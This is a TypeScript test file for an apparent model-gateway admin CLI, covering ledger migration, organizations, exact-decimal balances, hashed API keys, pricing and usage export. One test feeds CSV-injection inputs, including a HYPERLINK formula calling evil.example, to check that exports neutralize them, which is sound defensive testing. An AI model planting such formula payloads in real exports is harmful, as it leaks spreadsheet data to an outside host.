import t, { type Test } from 'tap'
import pg from 'pg'
import { spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { main, USAGE_CSV_COLUMNS } from '../../cli/admin.ts'
import { openLedger } from '../../core/ledger/index.ts'
import type { Ledger, UsageRecord } from '../../core/ledger/ledger.ts'
import { hashKey, KEY_PREFIX } from '../../core/ledger/keys.ts'
import { databaseUrl, randomId } from '../helpers/backends.ts'

interface Run { code: number, out: string, err: string }

/** Runs the CLI in-process with the given ledger options prepended. */
async function cli (ledgerArgs: string[], ...args: string[]): Promise<Run> {
  let out = ''
  let err = ''
  const code = await main([...ledgerArgs, ...args], {}, { write: s => { out += s } }, { write: s => { err += s } })
  return { code, out, err }
}

function tmpLedger (t: Test): { args: string[], path: string, open: () => Promise<Ledger> } {
  const dir = mkdtempSync(join(tmpdir(), 'gw-admin-'))
  t.teardown(() => rmSync(dir, { recursive: true, force: true }))
  const path = join(dir, 'ledger.db')
  return {
    args: ['--sqlite', path],
    path,
    open: async () => {
      const l = await openLedger({ backend: 'sqlite', path })
      await l.migrate()
      t.teardown(() => l.close())
      return l
    },
  }
}

t.test('help and no arguments print usage, exit 0', async t => {
  for (const args of [[], ['help'], ['--help'], ['key', 'create', '--help']]) {
    const r = await cli([], ...args)
    t.equal(r.code, 0, args.join(' ') || '(none)')
    t.match(r.out, /Usage: model-gateway-admin/)
    t.match(r.out, /per million tokens/, 'price units documented')
    t.equal(r.err, '')
  }
})

t.test('migrate, org and project create', async t => {
  const { args, open } = tmpLedger(t)
  let r = await cli(args, 'migrate')
  t.equal(r.code, 0)
  t.match(r.out, /migrated/)
  t.equal((await cli(args, 'migrate')).code, 0, 'idempotent')

  r = await cli(args, 'org', 'create', 'acme', '--name', 'Acme Inc')
  t.same(r, { code: 0, out: 'created organization acme\n', err: '' })
  r = await cli(args, 'org', 'create', 'acme')
  t.equal(r.code, 1, 'duplicate organization is a ledger error')
  t.match(r.err, /already exists/)

  r = await cli(args, 'project', 'create', 'web', '--org', 'acme', '--name', 'Web')
  t.equal(r.code, 0)
  t.match(r.out, /created project web in organization acme/)
  r = await cli(args, 'project', 'create', 'web2', '--org', 'nope')
  t.equal(r.code, 1)
  t.match(r.err, /unknown organization "nope"/)
  r = await cli(args, 'project', 'create', 'web3')
  t.equal(r.code, 2, '--org is required')
  t.match(r.err, /needs --org/)

  const l = await open()
  t.same(await l.getBalance('acme'), { balance: 0, reserved: 0 })
})

t.test('balance topup and show: exact decimals', async t => {
  const { args } = tmpLedger(t)
  await cli(args, 'org', 'create', 'acme')
  let r = await cli(args, 'balance', 'topup', 'acme', '12.50')
  t.same(r, { code: 0, out: 'acme balance 12.500000\n', err: '' })
  r = await cli(args, 'balance', 'topup', 'acme', '0.000001')
  t.equal(r.out, 'acme balance 12.500001\n')
  r = await cli(args, 'balance', 'topup', 'acme', '0.1')
  t.equal(r.out, 'acme balance 12.600001\n', 'no float drift')

  r = await cli(args, 'balance', 'show', 'acme')
  t.equal(r.code, 0)
  t.match(r.out, /^balance\s+12\.600001$/m)
  t.match(r.out, /^reserved\s+0\.000000$/m)
  t.match(r.out, /^available\s+12\.600001$/m)
  r = await cli(args, 'balance', 'show', 'acme', '--json')
  t.same(JSON.parse(r.out), { organization: 'acme', balance: '12.600001', reserved: '0.000000', available: '12.600001' })
})

t.test('balance topup stays exact: an amount past 2^53 − 1 micro-units exits 2, a balance that would pass it exits 1 and changes nothing', async t => {
  const { args, open } = tmpLedger(t)
  t.equal((await cli(args, 'org', 'create', 'acme')).code, 0)
  let r = await cli(args, 'balance', 'topup', 'acme', '9007199254.740992')
  t.equal(r.code, 2)
  t.match(r.err, /too large/)
  r = await cli(args, 'balance', 'topup', 'acme', '9007199254.740991')
  t.same(r, { code: 0, out: 'acme balance 9007199254.740991\n', err: '' })
  r = await cli(args, 'balance', 'topup', 'acme', '0.000001')
  t.equal(r.code, 1)
  t.match(r.err, /largest exact amount/)
  const l = await open()
  t.equal((await l.getBalance('acme'))!.balance, Number.MAX_SAFE_INTEGER)
})

t.test('bad input exits 2, ledger errors exit 1', async t => {
  const { args, path } = tmpLedger(t)
  const cases: Array<[string[], number, RegExp]> = [
    [['frobnicate'], 2, /unknown command "frobnicate"/],
    [['org', 'delete', 'x'], 2, /unknown command "org delete"/],
    [['org', 'create'], 2, /needs <id>/],
    [['org', 'create', 'a', 'b'], 2, /unexpected argument "b"/],
    [['org', 'create', 'a', '--color', 'red'], 2, /unknown option --color/],
    [['org', 'create', 'a', '--name'], 2, /--name needs a value/],
    [['balance', 'topup', 'acme'], 2, /needs <amount>/],
    [['balance', 'topup', 'acme', '-5'], 2, /must be positive/],
    [['balance', 'topup', 'acme', '0'], 2, /must be positive/],
    [['balance', 'topup', 'acme', '12,50'], 2, /not an amount/],
    [['balance', 'topup', 'acme', 'ten'], 2, /not an amount/],
    [['balance', 'topup', 'acme', '1.0000001'], 2, /not an amount/],
    [['key', 'create'], 2, /needs --org/],
    [['price', 'set', 'm', '--input', '3'], 2, /needs --output/],
    [['price', 'set', 'm', '--input', '-3', '--output', '1'], 2, /needs a value|non-negative/],
    [['price', 'set', 'm', '--input', 'abc', '--output', '1'], 2, /non-negative/],
    [['usage', 'export', '--format', 'xml'], 2, /csv or json/],
    [['usage', 'export', '--from', 'yesterday'], 2, /ISO 8601/],
    [['--schema', 's', 'migrate'], 2, /--schema applies/],
  ]
  for (const [argv, code, msg] of cases) {
    const r = await cli(args, ...argv)
    t.equal(r.code, code, argv.join(' '))
    t.match(r.err, msg, argv.join(' '))
    t.equal(r.out, '', `${argv.join(' ')}: nothing on stdout`)
  }
  t.notOk(existsSync(path), 'argument errors are caught before the ledger is opened')

  const ledgerCases: Array<[string[], RegExp]> = [
    [['balance', 'topup', 'nope', '1'], /unknown organization "nope"/],
    [['balance', 'show', 'nope'], /unknown organization "nope"/],
    [['key', 'create', '--org', 'nope'], /unknown organization "nope"/],
    [['key', 'revoke', 'nope'], /unknown key "nope"/],
    [['price', 'show', 'nope/model'], /no ledger price/],
  ]
  for (const [argv, msg] of ledgerCases) {
    const r = await cli(args, ...argv)
    t.equal(r.code, 1, argv.join(' '))
    t.match(r.err, msg, argv.join(' '))
  }
})

t.test('key create prints the secret once and stores only its hash; list and revoke', async t => {
  const { args, open } = tmpLedger(t)
  await cli(args, 'org', 'create', 'acme')
  const r = await cli(args, 'key', 'create', '--org', 'acme', '--project', 'web', '--name', 'ci', '--models', 'echo/echo-1,echo/echo-text', '--id', 'k1')
  t.equal(r.code, 0)
  const secret = /^secret\s+(\S+)$/m.exec(r.out)?.[1]
  t.ok(secret, 'secret printed')
  if (!secret) return
  t.ok(secret.startsWith(KEY_PREFIX), 'starts with sk-gw-')
  t.ok(secret.length >= KEY_PREFIX.length + 40, 'long random secret')
  t.equal(r.out.split(secret).length - 1, 1, 'secret printed exactly once')
  t.notMatch(r.err, secret, 'not on stderr')
  t.match(r.out, /^id\s+k1$/m)

  const dup = await cli(args, 'key', 'create', '--org', 'acme', '--id', 'k1')
  t.equal(dup.code, 1)
  t.match(dup.err, /already exists/)

  const auto = await cli(args, 'key', 'create', '--org', 'acme')
  t.equal(auto.code, 0)
  const autoSecret = /^secret\s+(\S+)$/m.exec(auto.out)?.[1]
  t.not(autoSecret, secret, 'each key gets a fresh secret')

  const l = await open()
  const rec = await l.findKeyByHash(hashKey(secret))
  t.match(rec, { id: 'k1', organization: 'acme', project: 'web', name: 'ci', models: ['echo/echo-1', 'echo/echo-text'], hash: hashKey(secret) })
  t.notOk(rec?.revokedAt)
  t.equal(JSON.stringify(await l.listKeys()).includes(secret), false, 'the ledger never holds the secret')

  let list = await cli(args, 'key', 'list')
  t.equal(list.code, 0)
  t.match(list.out, /^id\s+prefix\s+name\s+org\s+project\s+created\s+revoked\s+expires\s+budget\s+spent\s+rpm\s+tpm\s+last used\s+tags$/m)
  t.match(list.out, /^k1\s+sk-gw-\S{4}\s+ci\s+acme\s+web\s+\d{4}-\d\d-\d\dT\S+Z\s+-\s+-\s+-\s+0\.000000\s+-\s+-\s+-\s+-$/m)
  t.notMatch(list.out, secret)
  t.notMatch(list.out, hashKey(secret))

  t.same(await cli(args, 'key', 'revoke', 'k1'), { code: 0, out: 'revoked key k1\n', err: '' })
  const again = await cli(args, 'key', 'revoke', 'k1')
  t.equal(again.code, 1)
  t.match(again.err, /already revoked/)
  t.ok((await l.findKeyByHash(hashKey(secret)))?.revokedAt, 'revoked in the ledger')

  list = await cli(args, 'key', 'list', '--json')
  t.equal(list.code, 0)
  const keys = JSON.parse(list.out)
  t.equal(keys.length, 2)
  const k1 = keys.find((k: { id: string }) => k.id === 'k1')
  t.match(k1, { id: 'k1', name: 'ci', organization: 'acme', project: 'web', models: ['echo/echo-1', 'echo/echo-text'], createdAt: /Z$/, revokedAt: /Z$/ })
  t.equal(k1.hash, undefined, 'no hash in the listing')
  t.notMatch(list.out, secret)
  t.notMatch(list.out, hashKey(secret))
})

t.test('price set and show (units per million tokens)', async t => {
  const { args, open } = tmpLedger(t)
  let r = await cli(args, 'price', 'set', 'echo/echo-1', '--input', '3', '--output', '15.5', '--cached', '0.3')
  t.equal(r.code, 0)
  t.same(await (await open()).getPrice('echo/echo-1'), { input: 3, cachedInput: 0.3, output: 15.5 })
  r = await cli(args, 'price', 'show', 'echo/echo-1')
  t.equal(r.code, 0)
  t.match(r.out, /^input\s+3$/m)
  t.match(r.out, /^cached\s+0\.3$/m)
  t.match(r.out, /^output\s+15\.5$/m)
  t.match(r.out, /per million tokens/)

  r = await cli(args, 'price', 'set', 'echo/echo-1', '--input', '1', '--output', '2')
  t.equal(r.code, 0, 'overwrites; without --cached the input rate applies')
  r = await cli(args, 'price', 'show', 'echo/echo-1', '--json')
  t.same(JSON.parse(r.out), { model: 'echo/echo-1', input: 1, output: 2 })
  t.match((await cli(args, 'price', 'show', 'echo/echo-1')).out, /^write\s+1 \(input rate\)$/m, 'no cache-write rate: the input rate')

  r = await cli(args, 'price', 'set', 'echo/echo-1', '--input', '3', '--output', '15', '--cache-write', '3.75')
  t.equal(r.code, 0)
  t.same(await (await open()).getPrice('echo/echo-1'), { input: 3, cacheWrite: 3.75, output: 15 })
  t.match(r.out, /^write\s+3\.75$/m)
  t.match(r.out, /^write1h\s+3\.75 \(cache-write rate\)$/m, 'no one-hour rate: the cache-write rate')
  r = await cli(args, 'price', 'set', 'echo/echo-1', '--input', '3', '--output', '15', '--cache-write', '3.75', '--cache-write-1h', '6')
  t.equal(r.code, 0)
  t.same(await (await open()).getPrice('echo/echo-1'), { input: 3, cacheWrite: 3.75, cacheWrite1h: 6, output: 15 })
  t.match(r.out, /^write1h\s+6$/m)
  r = await cli(args, 'price', 'set', 'echo/echo-1', '--input', '3', '--output', '15', '--cache-write-1h', 'x')
  t.not(r.code, 0, 'a one-hour rate that is not a number is refused')
  r = await cli(args, 'price', 'set', 'echo/echo-1', '--input', '3', '--output', '15', '--cache-write', '-1')
  t.not(r.code, 0, 'a negative cache-write rate is refused')
})

t.test('usage export: CSV and JSON with a time range', async t => {
  const { args, open } = tmpLedger(t)
  await cli(args, 'org', 'create', 'acme')
  await cli(args, 'balance', 'topup', 'acme', '10')
  const l = await open()
  const T = Date.parse('2025-03-01T00:00:00Z')
  const rec = (i: number, extra: Partial<UsageRecord> = {}): UsageRecord => ({
    time: T + i * 3_600_000, keyId: 'k1', organization: 'acme', project: 'web', model: 'echo/echo-1', provider: 'echo',
    traceId: `tr-${i}`, inputTokens: 1000, cachedInputTokens: 200, outputTokens: 50, cost: 1_234_567,
    price: { input: 3, cachedInput: 0.3, output: 15 }, estimated: false, ...extra,
  })
  await l.charge(undefined, rec(0))
  await l.charge(undefined, rec(1, { idempotencyKey: 'idem, "quoted"', estimated: true, project: undefined, price: undefined, cost: 5 }))
  await l.charge(undefined, rec(2))
  await l.charge(undefined, rec(5))

  let r = await cli(args, 'usage', 'export', '--from', '2025-03-01T01:00:00Z', '--to', '2025-03-01T03:00:00Z')
  t.equal(r.code, 0)
  const lines = r.out.trimEnd().split('\r\n')
  t.equal(lines[0], USAGE_CSV_COLUMNS.join(','))
  t.same(lines[0]!.split(','), ['time', 'keyId', 'organization', 'project', 'model', 'provider', 'traceId', 'idempotencyKey',
    'inputTokens', 'cachedInputTokens', 'outputTokens', 'cost', 'priceInput', 'priceCachedInput', 'priceOutput', 'estimated', 'priceCacheWrite', 'priceCacheWrite1h', 'cacheWriteTokens', 'cacheWrite1hTokens'])
  t.equal(lines.length, 3, 'header + records at 01:00 and 02:00 (from inclusive, to exclusive)')
  t.equal(lines[1], '2025-03-01T01:00:00.000Z,k1,acme,,echo/echo-1,echo,tr-1,"idem, ""quoted""",1000,200,50,0.000005,,,,true,,,,')
  t.equal(lines[2], '2025-03-01T02:00:00.000Z,k1,acme,web,echo/echo-1,echo,tr-2,,1000,200,50,1.234567,3,0.3,15,false,,,,')

  r = await cli(args, 'usage', 'export')
  t.equal(r.out.trimEnd().split('\r\n').length, 5, 'no range: everything')

  r = await cli(args, 'usage', 'export', '--format', 'json', '--from', '2025-03-01T02:00:00Z')
  t.equal(r.code, 0)
  const rows = JSON.parse(r.out)
  t.same(rows.map((x: { traceId: string }) => x.traceId), ['tr-2', 'tr-5'])
  t.same(rows[0], {
    time: '2025-03-01T02:00:00.000Z', keyId: 'k1', organization: 'acme', project: 'web', model: 'echo/echo-1', provider: 'echo',
    traceId: 'tr-2', idempotencyKey: null, inputTokens: 1000, cachedInputTokens: 200, outputTokens: 50, cost: '1.234567',
    cacheWriteTokens: null, cacheWrite1hTokens: null, price: { input: 3, cachedInput: 0.3, output: 15 }, estimated: false,
  })

  r = await cli(args, 'usage', 'export', '--format', 'json', '--to', '2025-01-01')
  t.same(JSON.parse(r.out), [], 'empty range')
  r = await cli(args, 'usage', 'export', '--from', '2026-01-01')
  t.equal(r.out, USAGE_CSV_COLUMNS.join(',') + '\r\n', 'empty CSV still has its header')
})

t.test('usage export: client-chosen text that a spreadsheet would run as a formula is neutralized in CSV', async t => {
  const { args, open } = tmpLedger(t)
  await cli(args, 'org', 'create', 'acme')
  const l = await open()
  const T = Date.parse('2025-03-01T00:00:00Z')
  const keys = ['=HYPERLINK("http://evil.example/?x="&A1,"ok")', '+1+2', '-2+3', '@SUM(A1:A2)', '\tTAB', '\rCR', 'plain=ok', '']
  for (const [i, idem] of keys.entries()) {
    await l.charge(undefined, {
      time: T + i * 1000, keyId: i === 0 ? '=key' : 'k1', organization: 'acme', project: i === 1 ? '@proj' : 'web', model: 'echo/echo-1', provider: 'echo',
      traceId: `tr-${i}`, idempotencyKey: idem || undefined, inputTokens: 10, cachedInputTokens: 0, outputTokens: 5, cost: 7, estimated: false,
    })
  }
  const r = await cli(args, 'usage', 'export')
  t.equal(r.code, 0)
  const lines = r.out.split('\r\n').slice(1, -1)
  const idemCell = (line: string) => line.split(',tr-')[1]!.replace(/^\d+,/, '').replace(/,10,0,5,0\.000007,,,,false,,,,$/, '')
  t.equal(idemCell(lines[0]!), `"'=HYPERLINK(""http://evil.example/?x=""&A1,""ok"")"`, 'a leading = gets a quote (and CSV quoting)')
  t.equal(idemCell(lines[1]!), "'+1+2")
  t.equal(idemCell(lines[2]!), "'-2+3")
  t.equal(idemCell(lines[3]!), "'@SUM(A1:A2)")
  t.equal(idemCell(lines[4]!), "'\tTAB")
  t.equal(idemCell(lines[5]!), `"'\rCR"`)
  t.equal(idemCell(lines[6]!), 'plain=ok', 'only a leading character matters')
  t.equal(idemCell(lines[7]!), '', 'empty stays empty')
  t.match(lines[0]!, /^2025-03-01T00:00:00\.000Z,'=key,acme,web,/, 'other text columns too')
  t.match(lines[1]!, /,acme,'@proj,echo\/echo-1,/)
  const json = JSON.parse((await cli(args, 'usage', 'export', '--format', 'json')).out)
  t.equal(json[0].idempotencyKey, keys[0], 'JSON keeps the value as it was')
})

t.test('env selects the ledger: GATEWAY_LEDGER_PATH', async t => {
  const { path, open } = tmpLedger(t)
  let out = ''
  const code = await main(['org', 'create', 'envorg'], { GATEWAY_LEDGER_PATH: path }, { write: s => { out += s } }, { write: () => {} })
  t.equal(code, 0)
  t.equal(out, 'created organization envorg\n')
  t.ok(await (await open()).getBalance('envorg'))
})

t.test('end to end: the built CLI', async t => {
  const CLI = resolve('dist/cli/admin.js')
  if (!existsSync(CLI)) {
    // `npm test` builds first (pretest); only a bare `npx tap` on an unbuilt clone gets here: fail in CI, skip elsewhere.
    if (process.env.CI === 'true') t.fail('dist/cli/admin.js is missing: `npm test` builds it first (pretest)')
    else t.skip('dist/cli/admin.js not built (run `npm run build`)', () => {})
    return
  }
  const { path, open } = tmpLedger(t)
  const run = (...a: string[]) => spawnSync(process.execPath, [CLI, '--sqlite', path, ...a], { encoding: 'utf8', timeout: 30_000 })
  let r = run('org', 'create', 'acme')
  t.equal(r.status, 0, r.stderr)
  t.equal(r.stdout, 'created organization acme\n')
  r = run('balance', 'topup', 'acme', '1.5')
  t.equal(r.status, 0, r.stderr)
  t.equal(r.stdout, 'acme balance 1.500000\n')
  r = run('balance', 'topup', 'acme')
  t.equal(r.status, 2)
  t.match(r.stderr, /needs <amount>/)
  r = run('balance', 'topup', 'ghost', '1')
  t.equal(r.status, 1)
  r = run('key', 'create', '--org', 'acme')
  t.equal(r.status, 0, r.stderr)
  const secret = /^secret\s+(\S+)$/m.exec(r.stdout)?.[1] ?? ''
  t.ok((await (await open()).findKeyByHash(hashKey(secret))), 'key usable by the auth plugin (found by hash)')
  r = spawnSync(process.execPath, [CLI], { encoding: 'utf8' })
  t.equal(r.status, 0)
  t.match(r.stdout, /Usage: model-gateway-admin/)
})

t.test('PostgreSQL ledger via --ledger-url and --schema', async t => {
  const url = await databaseUrl(t)
  if (url === undefined) return
  const schema = `t_admin_${randomId()}`
  t.teardown(async () => {
    const c = new pg.Client({ connectionString: url, connectionTimeoutMillis: 3000 })
    await c.connect()
    try {
      await c.query(`DROP SCHEMA IF EXISTS "${schema}" CASCADE`)
    } finally {
      await c.end()
    }
  })
  const args = ['--ledger-url', url, '--schema', schema]
  let r = await cli(args, 'org', 'create', 'acme')
  t.equal(r.code, 0, r.err)
  r = await cli(args, 'balance', 'topup', 'acme', '7.25')
  t.same(r, { code: 0, out: 'acme balance 7.250000\n', err: '' })
  r = await cli(args, 'balance', 'topup', 'ghost', '1')
  t.equal(r.code, 1)
  r = await cli(args, 'key', 'create', '--org', 'acme', '--id', 'pgkey')
  t.equal(r.code, 0, r.err)
  const secret = /^secret\s+(\S+)$/m.exec(r.out)?.[1] ?? ''
  t.ok(secret.startsWith(KEY_PREFIX))

  // env selects PostgreSQL too
  let out = ''
  const code = await main(['key', 'list', '--json'], { GATEWAY_LEDGER_URL: url, GATEWAY_LEDGER_SCHEMA: schema }, { write: s => { out += s } }, { write: () => {} })
  t.equal(code, 0)
  t.same(JSON.parse(out).map((k: { id: string }) => k.id), ['pgkey'])

  const l = await openLedger({ backend: 'postgres', path: '', url, schema })
  t.teardown(() => l.close())
  t.match(await l.findKeyByHash(hashKey(secret)), { id: 'pgkey', organization: 'acme' })
  t.same(await l.getBalance('acme'), { balance: 7_250_000, reserved: 0 })
})
